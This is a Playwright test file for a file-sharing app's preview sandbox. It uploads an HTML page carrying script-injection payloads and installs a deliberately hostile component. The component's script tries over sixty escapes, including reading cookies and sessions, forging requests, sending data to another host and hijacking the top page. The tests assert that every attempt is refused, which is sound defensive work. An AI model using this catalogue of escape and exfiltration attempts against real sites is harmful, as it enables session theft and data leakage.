import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Browser, Page, Request } from '@playwright/test'
import { contract } from '#contract/index.ts'
import { Client } from '../support/client.ts'
import { zipOf } from '../support/package.ts'
import { ADMIN, type Server } from '../support/server.ts'
import { upload } from '../support/upload.ts'
import { enterSpace, expect, ownServer, PASSWORD, test } from './journey.ts'

const SPACE = '高原湖泊生态观测'
async function spaceNamed(client: Client, name: string): Promise<string> {
  const { list } = await client.data(contract.spaces.list, { q: name })
  return list[0]?.id ?? ''
}

const PAGE = `<!doctype html><h1 id="title">Lake report</h1><script>document.title = 'ran'; parent.postMessage('ran', '*')</script>
<img src="/api/get.u" onerror="parent.postMessage('ran', '*')"><style>h1 { color: rgb(1, 2, 3) }</style>
<iframe src="javascript:parent.parent.postMessage('ran', '*')"></iframe><meta http-equiv="refresh" content="0;url=/">`

test('a page among the files shows as it looks, and nothing in it runs', async ({ page, server }) => {
  const owner = await new Client(server.origin).login('lin@demo.test', PASSWORD)
  await upload(owner, { spaceId: await spaceNamed(owner, SPACE), name: 'report.html' }, Buffer.from(PAGE))
  await enterSpace(page, 'lin@demo.test', SPACE)
  const row = page.getByRole('row', { name: /report\.html/ })
  await expect(row).toBeVisible()
  await page.evaluate(() => {
    const said: unknown[] = []
    Object.assign(window, { said })
    addEventListener('message', ({ data }) => said.push(data))
  })
  await row.dblclick()
  const frame = page.locator('.preview-modal iframe')
  await expect(frame).toHaveAttribute('sandbox', 'allow-scripts')
  const inner = frame.contentFrame().locator('iframe.page')
  await expect(inner.contentFrame().getByRole('heading', { name: 'Lake report' })).toHaveCSS('color', 'rgb(1, 2, 3)')
  await expect(page.locator('.frame-note')).toHaveCount(0)
  expect(await page.evaluate(() => (window as unknown as { said: unknown[] }).said)).not.toContain('ran')
})

/** Tries what a component may never do, and says what came of it. `<here>` is the site, `<there>` another one. */
const HOSTILE = `
// Loaded a second time, in a document within: who asks from there is not the frame that the page made.
if (parent !== top) {
  addEventListener('message', ({ ports }) => { if (ports.length) parent.postMessage('a port', '*') })
  top.postMessage({ ds: 1, type: 'ready' }, '*')
} else begin()
function begin() {
const found = {}
const attempt = (name, work) => Promise.race([
  Promise.resolve().then(work).then((got) => 'GOT ' + String(got).slice(0, 80), (error) => 'refused ' + error.name),
  new Promise((resolve) => setTimeout(resolve, 2000, 'refused by silence')),
]).then((result) => { found[name] = result })
const THERE = 'http://<there>'
const image = (src) => new Promise((resolve, reject) => { const one = new Image(); one.onload = () => resolve('loaded'); one.onerror = () => reject(new TypeError()); one.src = src })
const click = (tag, more) => { const one = Object.assign(document.createElement(tag), more); document.body.append(one); one.click(); throw new TypeError('see the page') }
const send = (target) => { const form = Object.assign(document.createElement('form'), { action: THERE + '/form' + target, method: 'post', target }); document.body.append(form); form.submit(); throw new TypeError('see the other site') }
const asked = (url) => new Promise((resolve, reject) => { const worker = new Worker(URL.createObjectURL(new Blob([url]))); worker.onmessage = ({ data }) => data === 'no' ? reject(new TypeError()) : resolve(data); worker.onerror = () => reject(new TypeError()) })
const linked = (more) => new Promise((resolve, reject) => { const link = Object.assign(document.createElement('link'), more, { onload: () => resolve('loaded'), onerror: () => reject(new TypeError()) }); document.head.append(link) })
const answered = (port, message) => new Promise((resolve) => { port.addEventListener('message', ({ data }) => data.type !== 'theme' && resolve(JSON.stringify(data))); port.postMessage(message) })
const run = (port, file) => Promise.all([
  attempt('origin', () => { if (self.origin === 'null') throw new TypeError(); return self.origin }),
  attempt('cookie', () => document.cookie),
  attempt('localStorage', () => localStorage.length),
  attempt('sessionStorage', () => sessionStorage.length),
  attempt('indexedDB', () => new Promise((resolve, reject) => { const asked = indexedDB.open('a'); asked.onsuccess = () => resolve('open'); asked.onerror = () => reject(asked.error) })),
  attempt('caches', () => caches.keys()),
  attempt('cookie store', () => cookieStore.getAll().then((all) => all.length)),
  attempt('file system', () => navigator.storage.getDirectory()),
  attempt('shared worker', () => new Promise((resolve, reject) => { const one = new SharedWorker('./evil.js'); one.onerror = () => reject(new TypeError()) })),
  attempt('page around', () => parent.document.title),
  attempt('address of the page around', () => top.location.href),
  attempt('frame element', () => { if (!frameElement) throw new TypeError(); return 'got' }),
  attempt('functions of the page around', () => top.fetch('/api/get.u')),
  attempt('storage of the page around', () => parent.sessionStorage.length),
  attempt('session', () => fetch('/api/get.u', { credentials: 'include' }).then((answer) => answer.text())),
  attempt('session without cors', () => fetch('/api/get.u', { mode: 'no-cors', credentials: 'include' }).then(() => 'sent')),
  attempt('session by a synchronous request', () => { const asked = new XMLHttpRequest(); asked.withCredentials = true; asked.open('GET', '/api/get.u', false); asked.send(); return asked.responseText }),
  attempt('session by a script', () => new Promise((resolve, reject) => { const one = document.createElement('script'); one.src = '/api/get.u'; one.onload = () => resolve('loaded'); one.onerror = () => reject(new TypeError()); document.head.append(one) })),
  attempt('a change in somebody’s name', () => fetch('/api/file/create', { method: 'POST', mode: 'no-cors', credentials: 'include', body: new URLSearchParams({ path: 'x' }) }).then(() => 'sent')),
  attempt('ticket of another file', () => fetch(file.addresses[0].replace(/bytes\\/.{12}/, 'bytes/AAAAAAAAAAAA')).then((answer) => { if (!answer.ok) throw new TypeError(); return answer.text() })),
  attempt('ticket for writing', () => fetch(file.addresses[0], { method: 'PUT', body: 'x' }).then((answer) => { if (!answer.ok) throw new TypeError(); return 'written' })),
  attempt('files beside, without the right', () => answered(port, { type: 'siblings', suffixes: ['csv', 'md'] })),
  attempt('another file, without the right', () => answered(port, { type: 'open', hash: '<other>' })),
  attempt('events of another site', () => new Promise((resolve, reject) => { const one = new EventSource(THERE + '/events'); one.onopen = () => resolve('open'); one.onerror = () => reject(new TypeError()) })),
  attempt('script of another site', () => import(THERE + '/script.js')),
  attempt('style of another site', () => linked({ rel: 'stylesheet', href: THERE + '/style.css' })),
  attempt('background of another site', () => new Promise((_, reject) => { document.body.style.background = 'url(' + THERE + '/background)'; setTimeout(reject, 500, new TypeError('see the other site')) })),
  attempt('font of another site', () => new FontFace('evil', 'url(' + THERE + '/font)').load()),
  attempt('prefetch of another site', () => linked({ rel: 'prefetch', href: THERE + '/prefetch' })),
  attempt('object', () => new Promise((resolve, reject) => { const one = document.createElement('object'); one.data = THERE + '/object'; one.onload = () => resolve('loaded'); one.onerror = () => reject(new TypeError()); document.body.append(one) })),
  attempt('film of another site', () => new Promise((resolve, reject) => { const one = document.createElement('video'); one.src = THERE + '/film'; one.onloadedmetadata = () => resolve('loaded'); one.onerror = () => reject(new TypeError()); document.body.append(one) })),
  attempt('beacon', () => { if (!navigator.sendBeacon(THERE + '/beacon', 'x')) throw new TypeError(); return new Promise((_, reject) => setTimeout(reject, 500, new TypeError('see the other site'))) }),
  attempt('other site', () => fetch(THERE + '/fetch', { mode: 'no-cors' }).then(() => 'sent')),
  attempt('picture of another site', () => image(THERE + '/picture')),
  attempt('picture of the site', () => image('/logo.svg')),
  attempt('another component', () => fetch('/package/stl/main.js').then((answer) => answer.text())),
  attempt('socket', () => new Promise((resolve, reject) => { const socket = new WebSocket('ws://<there>/socket'); socket.onopen = () => resolve('open'); socket.onerror = () => reject(new TypeError()) })),
  attempt('own socket', () => new Promise((resolve, reject) => { const socket = new WebSocket('ws://<here>/api/msg/x'); socket.onopen = () => resolve('open'); socket.onerror = () => reject(new TypeError()) })),
  attempt('worker that asks', () => new Promise((resolve, reject) => { const worker = new Worker(URL.createObjectURL(new Blob(['fetch("' + THERE + '/worker",{mode:"no-cors"}).then(()=>postMessage("sent"),()=>postMessage("no"))']))); worker.onmessage = ({ data }) => data === 'no' ? reject(new TypeError()) : resolve(data); worker.onerror = () => reject(new TypeError()) })),
  attempt('worker that brings a script', () => asked('try { importScripts("' + THERE + '/import.js"); postMessage("loaded") } catch { postMessage("no") }')),
  attempt('worker that asks for the session', () => asked('fetch("http://<here>/api/get.u",{credentials:"include"}).then(()=>postMessage("sent"),()=>postMessage("no"))')),
  attempt('port for a document within', () => new Promise((resolve) => { addEventListener('message', ({ data }) => data === 'a port' && resolve(data)); const inner = document.createElement('iframe'); inner.srcdoc = '<script src="http://<here>/package/hostile/evil.js"></' + 'script>'; document.body.append(inner) })),
  attempt('eval', () => (0, eval)('1+1')),
  attempt('window', () => { if (!open('/')) throw new TypeError(); return 'open' }),
  attempt('window by a link', () => click('a', { href: THERE + '/window', target: '_blank' })),
  attempt('question', () => { if (confirm('Your password?')) return 'asked'; throw new TypeError() }),
  attempt('print', () => { print(); throw new TypeError('see the page') }),
  attempt('download', () => click('a', { href: URL.createObjectURL(new Blob(['x'])), download: 'evil.exe' })),
  attempt('the page itself by a link', () => click('a', { href: THERE + '/link', target: '_top' })),
  attempt('the page itself by its parent', () => { parent.location.replace(THERE + '/parent'); throw new TypeError() }),
  attempt('the page itself by its history', () => { history.go(-1); throw new TypeError('see the page') }),
  attempt('form for the page itself', () => send('_top')),
  attempt('the page itself', () => { top.location = THERE + '/top'; throw new TypeError() }),
  attempt('form', () => { const form = document.createElement('form'); form.action = THERE + '/form'; form.method = 'post'; document.body.append(form); form.submit(); throw new TypeError() }),
  attempt('frame in the frame', () => new Promise((resolve, reject) => { const inner = document.createElement('iframe'); inner.src = THERE + '/inner'; inner.onload = () => reject(new TypeError('see the other site')); document.body.append(inner) })),
  attempt('service worker', () => navigator.serviceWorker.register('./evil.js')),
  attempt('clipboard', () => navigator.clipboard.readText()),
  attempt('clipboard to write', () => navigator.clipboard.writeText('x')),
  attempt('full screen', () => document.documentElement.requestFullscreen()),
  attempt('place', () => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, () => reject(new TypeError())))),
  attempt('notice', () => Notification.requestPermission().then((said) => { if (said !== 'granted') throw new TypeError(); return said })),
  attempt('passkey', () => navigator.credentials.get({ publicKey: { challenge: new Uint8Array(32) } })),
  attempt('camera', () => navigator.mediaDevices.getUserMedia({ video: true })),
  attempt('renewed by itself', () => fetch('/api/space/previewData?spaceId=x').then((answer) => answer.text())),
]).then(() => {
  document.body.innerHTML = '<pre></pre>'
  document.querySelector('pre').textContent = JSON.stringify(found)
})
let ports = 0
addEventListener('message', ({ ports: [port] }) => {
  if (!port) return
  ports += 1
  if (ports > 1) found['another port'] = 'GOT one'
  port.onmessage = ({ data }) => { if (data.type === 'file') { found.fileInfo = JSON.stringify(data); parent.postMessage({ ds: 1, type: 'ready' }, '*'); new BroadcastChannel('ds').postMessage('out'); run(port, data).then(() => port.postMessage({ type: 'state', state: 'finish' })) }
    if (data.type === 'theme') location.href = THERE + '/self' }
})
parent.postMessage({ ds: 1, type: 'ready' }, '*')
}
`
const MANIFEST = {
  protocol: 1,
  bundle: 'hostile',
  version: '1.0.0',
  name: { zh: '恶意', en: 'Hostile' },
  entry: 'index.html',
  suffixes: ['evil'],
  rights: ['bytes'],
}

async function installHostile(server: Server, script: string): Promise<void> {
  const admin = await new Client(server.origin).login(ADMIN.email, ADMIN.password)
  const bytes = await zipOf([
    { name: 'component.json', text: JSON.stringify(MANIFEST) },
    { name: 'index.html', text: '<!doctype html><body><script src="./evil.js"></script>' },
    { name: 'evil.js', text: script },
  ])
  const send = async (fields: Record<string, string>) => {
    const body = new FormData()
    for (const [name, value] of Object.entries(fields)) body.set(name, value)
    body.set('file', new Blob([new Uint8Array(bytes)]), 'hostile.zip')
    const path = `/api${contract.components.installFile.path}`
    return (await (await admin.fetch(path, { method: 'POST', body })).json()) as {
      code: number
      data: { sha256: string }
    }
  }
  const { data } = await send({ isDryRun: 'true' })
  expect(await send({ isDryRun: 'false', sha256: data.sha256 })).toMatchObject({ code: 0 })
}

/** Another site, which writes down whatever reaches it. */
async function otherSite(): Promise<{ host: string; asked: string[]; close: () => void }> {
  const asked: string[] = []
  const site = createServer((request, response) => {
    asked.push(`${request.method} ${request.url}`)
    response.setHeader('access-control-allow-origin', '*').end('x')
  })
  await new Promise<void>((resolve) => site.listen(0, '127.0.0.1', resolve))
  return { host: `127.0.0.1:${(site.address() as AddressInfo).port}`, asked, close: () => site.close() }
}

/** What somebody sees who opens the bait, and what the component says came of its attempts. */
async function expectNothingGot(page: Page, sent: readonly Request[], open: () => Promise<void>): Promise<void> {
  const noise: string[] = []
  page.on('dialog', (dialog) => {
    noise.push(`dialog ${dialog.message()}`)
    void dialog.dismiss()
  })
  page.on('download', (download) => noise.push(`download ${download.suggestedFilename()}`))
  page.on('popup', (other) => noise.push(`window ${other.url()}`))
  await page.evaluate(() => {
    const heard: unknown[] = []
    Object.assign(window, { heard })
    new BroadcastChannel('ds').onmessage = ({ data }) => heard.push(data)
    // Somebody else than the frame says that it is there.
    window.postMessage({ ds: 1, type: 'ready' }, '*')
    addEventListener('message', ({ ports }) => heard.push(...ports))
  })
  // What is opened stands behind it, by our own hand.
  const placeOf = () => page.url().replace(/[?#].*/, '')
  const before = placeOf()
  await open()
  const pre = page.locator('.preview-modal iframe').contentFrame().locator('pre')
  await expect(pre).toContainText('fileInfo')
  const { fileInfo = '', ...found } = JSON.parse(await pre.innerText()) as Record<string, string>
  expect(Object.entries(found).filter(([, result]) => !result.startsWith('refused'))).toEqual([])
  expect(Object.keys(found).length).toBeGreaterThan(60)
  expect(Object.keys(JSON.parse(fileInfo) as object).sort()).toEqual([
    'addresses',
    'language',
    'mime',
    'name',
    'parameters',
    'rights',
    'size',
    'suffix',
    'theme',
    'type',
    'version',
  ])
  // Told of another theme, it goes elsewhere itself: the page around does not let it.
  const refusal = page.waitForEvent('console', (message) => /frame-src/.test(message.text()))
  await page.evaluate(() => Object.assign(document.documentElement.dataset, { theme: 'dark' }))
  await refusal
  await expect(page.locator('.preview-bar b')).toHaveText('bait.evil')
  expect(placeOf()).toBe(before)
  expect(await page.evaluate(() => (window as unknown as { heard: unknown[] }).heard)).toEqual([])
  expect(noise).toEqual([])
  const ofFrame = sent.filter((request) => request.url().includes('/package/'))
  expect(ofFrame.length).toBeGreaterThan(1)
  for (const request of ofFrame.filter((one) => !one.isNavigationRequest()))
    expect((await request.allHeaders()).cookie).toBeUndefined()
}

/** Opens the bait on a page that draws itself again at the first touch. */
async function openLink(page: Page): Promise<void> {
  await page.mouse.move(9, 9)
  await page.waitForLoadState('networkidle')
  await page.getByRole('link', { name: 'bait.evil', exact: true }).click()
}
/** A page of somebody who is not signed in, and all that it asks for. */
async function stranger(browser: Browser, server: Server) {
  const page = await (await browser.newContext({ locale: 'zh-CN', baseURL: server.origin })).newPage()
  return { page, sent: watch(page) }
}
function watch(page: Page): readonly Request[] {
  const sent: Request[] = []
  page.on('request', (request) => sent.push(request))
  return sent
}

test('a hostile component gets its file and nothing else, whoever looks: a member, a visitor of a link, a stranger', async ({
  page,
  browser,
}) => {
  const there = await otherSite()
  await ownServer(async (server) => {
    const here = new URL(server.origin).host
    const owner = await new Client(server.origin).login('lin@demo.test', PASSWORD)
    const spaceId = await spaceNamed(owner, SPACE)
    const other = await upload(owner, { spaceId, name: 'other.csv' }, Buffer.from('a,b'))
    const values = { here, there: there.host, other: other.hash }
    const script = HOSTILE.replace(/<(here|there|other)>/g, (_, name: keyof typeof values) => values[name])
    await installHostile(server, script)
    const bait = await upload(owner, { spaceId, name: 'bait.evil' }, Buffer.from('bait'))
    const ofMember = watch(page)
    await enterSpace(page, 'lin@demo.test', SPACE, server.origin)
    await expectNothingGot(page, ofMember, () => page.getByText('bait.evil').dblclick())

    const { link } = await owner.data(contract.shares.makeFile, {
      spaceId,
      hashList: [bait.hash, other.hash],
      mayDownload: false,
    })
    const visitor = await stranger(browser, server)
    await visitor.page.goto(link ?? '')
    await expectNothingGot(visitor.page, visitor.sent, () => openLink(visitor.page))

    await owner.data(contract.spaces.setType, { id: spaceId, type: 'public' } as never)
    const { homepage } = await owner.data(contract.spaces.show, { id: spaceId } as never)
    const reader = await stranger(browser, server)
    await reader.page.goto(homepage)
    await expectNothingGot(reader.page, reader.sent, () => openLink(reader.page))
    expect(there.asked).toEqual([])
  })
  there.close()
})
